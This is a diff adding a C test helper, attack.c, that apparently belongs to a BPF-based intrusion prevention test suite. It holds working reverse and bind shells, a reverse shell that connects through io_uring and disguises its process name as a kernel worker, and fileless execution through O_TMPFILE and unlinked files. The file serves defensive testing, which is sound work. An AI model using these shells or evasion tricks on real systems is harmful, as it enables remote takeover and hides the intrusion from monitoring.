@@ -1,0 +1,224 @@
+/* attack.c - what an attacker would run inside a session, for the prevention tests
+ * (tests/bpf/test_prevention.py). Traffic goes only to the addresses the test passes (a
+ * network-namespace test host). Modes:
+ *   connect IP PORT        connect(), dup2 onto 0-2, exec /bin/sh -i       (reverse shell)
+ *   connect-in IP PORT     connect(), dup2 onto 0 only, exec /bin/sh -i (its output stays on
+ *                          the caller's stdout: a shell reading commands from the network)
+ *   uring IP PORT          the connect through io_uring (IORING_OP_CONNECT), prctl(PR_SET_NAME),
+ *                          dup2 onto 0-2, exec /bin/sh -i
+ *   bind PORT              listen on every interface, accept, dup2 the accepted socket onto
+ *                          0-2, exec /bin/sh -i                             (bind shell)
+ *   uring-write PATH TEXT  openat + write through io_uring; prints the bytes written
+ *   tmpfile DIR            O_TMPFILE copy of /bin/sleep, reopened read-only through
+ *                          /proc/self/fd/N, exec'd through /proc/self/fd/M
+ *   unlinked PATH          write a copy of /bin/sleep to PATH, open it read-only, unlink it,
+ *                          exec it through /proc/self/fd/N
+ * Exit codes: 0 the last step returned, 2 usage, 3 a step failed (errno on stderr).
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/io_uring.h>
+#include <netinet/in.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static int fail(const char *what)
+{
+    fprintf(stderr, "%s: %s\n", what, strerror(errno));
+    return 3;
+}
+
+static void shell_on(int fd)
+{
+    dup2(fd, 0);
+    dup2(fd, 1);
+    dup2(fd, 2);
+    execl("/bin/sh", "sh", "-i", (char *)0);
+    _exit(127);
+}
+
+struct ring {
+    int fd;
+    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
+    struct io_uring_sqe *sqes;
+    struct io_uring_cqe *cqes;
+};
+
+static int ring_open(struct ring *r)
+{
+    struct io_uring_params p;
+    memset(&p, 0, sizeof(p));
+    r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
+    if (r->fd < 0)
+        return -1;
+    char *sq = mmap(0, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
+                    MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
+    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
+                    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
+    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
+                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
+    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
+        return -1;
+    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
+    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
+    r->sq_array = (unsigned *)(sq + p.sq_off.array);
+    r->cq_head = (unsigned *)(cq + p.cq_off.head);
+    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
+    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
+    return 0;
+}
+
+/* submit one SQE and wait for its completion; returns cqe.res */
+static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
+{
+    unsigned tail = *r->sq_tail;
+    unsigned idx = tail & *r->sq_mask;
+    r->sqes[idx] = *sqe;
+    r->sq_array[idx] = idx;
+    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
+    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+        return -errno;
+    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
+    int res = r->cqes[head & *r->cq_mask].res;
+    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
+    return res;
+}
+
+static int copy_file(int to, const char *from)
+{
+    int in = open(from, O_RDONLY);
+    if (in < 0)
+        return -1;
+    char buf[65536];
+    ssize_t n;
+    while ((n = read(in, buf, sizeof(buf))) > 0)
+        if (write(to, buf, n) != n)
+            return -1;
+    close(in);
+    return n < 0 ? -1 : 0;
+}
+
+static struct sockaddr_in addr_of(const char *ip, const char *port)
+{
+    struct sockaddr_in sa;
+    memset(&sa, 0, sizeof(sa));
+    sa.sin_family = AF_INET;
+    sa.sin_port = htons(atoi(port));
+    inet_pton(AF_INET, ip, &sa.sin_addr);
+    return sa;
+}
+
+int main(int argc, char **argv)
+{
+    if (argc < 3)
+        return 2;
+    const char *mode = argv[1];
+    char path[64];
+    if (!strcmp(mode, "connect") && argc == 4) {
+        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
+            return fail("connect");
+        shell_on(s);
+    } else if (!strcmp(mode, "connect-in") && argc == 4) {
+        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
+            return fail("connect");
+        dup2(s, 0);
+        execl("/bin/sh", "sh", "-i", (char *)0);
+        return fail("exec");
+    } else if (!strcmp(mode, "uring") && argc == 4) {
+        static struct sockaddr_in sa;
+        sa = addr_of(argv[2], argv[3]);
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        struct ring r;
+        if (ring_open(&r))
+            return fail("io_uring_setup");
+        struct io_uring_sqe sqe;
+        memset(&sqe, 0, sizeof(sqe));
+        sqe.opcode = IORING_OP_CONNECT;
+        sqe.fd = s;
+        sqe.addr = (unsigned long)&sa;
+        sqe.off = sizeof(sa);
+        int res = ring_run(&r, &sqe);
+        if (res < 0) {
+            errno = -res;
+            return fail("IORING_OP_CONNECT");
+        }
+        prctl(PR_SET_NAME, "kworker/0:1");
+        shell_on(s);
+    } else if (!strcmp(mode, "bind") && argc == 3) {
+        struct sockaddr_in sa = addr_of("0.0.0.0", argv[2]);
+        int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
+        setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+        if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 1))
+            return fail("bind/listen");
+        struct sockaddr_in peer;
+        socklen_t len = sizeof(peer);
+        int c = accept(s, (struct sockaddr *)&peer, &len);
+        if (c < 0)
+            return fail("accept");
+        shell_on(c);
+    } else if (!strcmp(mode, "uring-write") && argc == 4) {
+        struct ring r;
+        if (ring_open(&r))
+            return fail("io_uring_setup");
+        struct io_uring_sqe sqe;
+        memset(&sqe, 0, sizeof(sqe));
+        sqe.opcode = IORING_OP_OPENAT;
+        sqe.fd = AT_FDCWD;
+        sqe.addr = (unsigned long)argv[2];
+        sqe.len = 0644;
+        sqe.open_flags = O_WRONLY | O_CREAT | O_TRUNC;
+        int fd = ring_run(&r, &sqe);
+        if (fd < 0) {
+            errno = -fd;
+            return fail("IORING_OP_OPENAT");
+        }
+        memset(&sqe, 0, sizeof(sqe));
+        sqe.opcode = IORING_OP_WRITE;
+        sqe.fd = fd;
+        sqe.addr = (unsigned long)argv[3];
+        sqe.len = strlen(argv[3]);
+        int n = ring_run(&r, &sqe);
+        if (n < 0) {
+            errno = -n;
+            return fail("IORING_OP_WRITE");
+        }
+        printf("%d\n", n);
+        return 0;
+    } else if (!strcmp(mode, "tmpfile") && argc == 3) {
+        int fd = open(argv[2], O_TMPFILE | O_RDWR, 0755);
+        if (fd < 0 || copy_file(fd, "/bin/sleep"))
+            return fail("O_TMPFILE");
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+        int ro = open(path, O_RDONLY);
+        if (ro < 0)
+            return fail("reopen");
+        close(fd);
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", ro);
+        execl(path, "payload", "1", (char *)0);
+        return fail("exec");
+    } else if (!strcmp(mode, "unlinked") && argc == 3) {
+        int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);
+        if (fd < 0 || copy_file(fd, "/bin/sleep"))
+            return fail("write payload");
+        close(fd);
+        int ro = open(argv[2], O_RDONLY);
+        if (ro < 0 || unlink(argv[2]))
+            return fail("open/unlink");
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", ro);
+        execl(path, "payload", "1", (char *)0);
+        return fail("exec");
+    }
+    return 2;
+}
